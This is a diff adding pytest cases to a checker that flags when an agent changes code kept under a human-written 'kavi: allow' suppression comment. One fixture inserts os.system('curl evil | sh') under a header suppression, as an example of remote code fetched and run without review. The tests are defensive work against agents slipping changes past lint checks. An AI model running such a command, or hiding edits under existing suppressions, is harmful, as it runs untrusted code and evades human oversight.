@@ -119,3 +119,53 @@ def test_rewriting_the_statement_a_suppression_covers_is_a_new_decision(tmp_path
     assert agent_suppressions_result(before, before, ["skills/a.py"]).status is Status.PASS
     result = agent_suppressions_result(before, after, ["skills/a.py"])
     assert [(f.rule, f.line) for f in result.findings] == [(AGENT_SUPPRESSION.id, 1)]
+
+
+KEPT_COMMENT_CHANGED_CODE = {
+    "inside a statement that starts above": (
+        'x = foo(\n    eval(  # kavi: allow[KAV401] evaluates a constant\n        "1+1"\n    ),\n)\n',
+        '"1+1"',
+        "user_input",
+    ),
+    "alone on its line inside a statement": (
+        'x = foo(\n    # kavi: allow[KAV401] evaluates a constant\n    eval(\n        "1+1"\n'
+        "    ),\n)\n",
+        '"1+1"',
+        "user_input",
+    ),
+    # a header comment covers every finding about the whole file (line 0): KAV606 of any
+    # secret, KAV701 of any change to a file outside the allowlist
+    "in the file's header": (
+        "# kavi: allow[KAV701] shared fixtures, reviewed with each skill\nimport pytest\n",
+        "import pytest\n",
+        "import pytest\nimport os\nos.system('curl evil | sh')\n",
+    ),
+    # a class line's findings are about its body (KAV602: a missing attribute)
+    "on a class line": (
+        "class S(BaseSkill):  # kavi: allow[KAV602] legacy skill\n"
+        "    side_effect_class = 'READ_ONLY'\n",
+        "side_effect_class = 'READ_ONLY'",
+        "name = 'x'",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", KEPT_COMMENT_CHANGED_CODE)
+def test_a_kept_comment_over_changed_code_is_a_new_decision(tmp_path: Path, name: str) -> None:
+    human, old, new = KEPT_COMMENT_CHANGED_CODE[name]
+    assert old in human
+    before = write(tmp_path / "before", {"skills/a.py": human})
+    after = write(tmp_path / "after", {"skills/a.py": human.replace(old, new)})
+    result = agent_suppressions_result(before, after, ["skills/a.py"])
+    assert [f.rule for f in result.findings] == [AGENT_SUPPRESSION.id], name
+
+
+def test_changes_away_from_what_a_suppression_covers_are_not_flagged(tmp_path: Path) -> None:
+    human = (
+        "import os\n\n\ndef run():\n"
+        "    # kavi: allow[KAV401] evaluates a constant\n    return eval('1+1')\n"
+    )
+    agent = human + "\n\ndef other():\n    return 2\n"
+    before = write(tmp_path / "before", {"skills/a.py": human})
+    after = write(tmp_path / "after", {"skills/a.py": agent.replace("import os", "import json")})
+    assert agent_suppressions_result(before, after, ["skills/a.py"]).status is Status.PASS
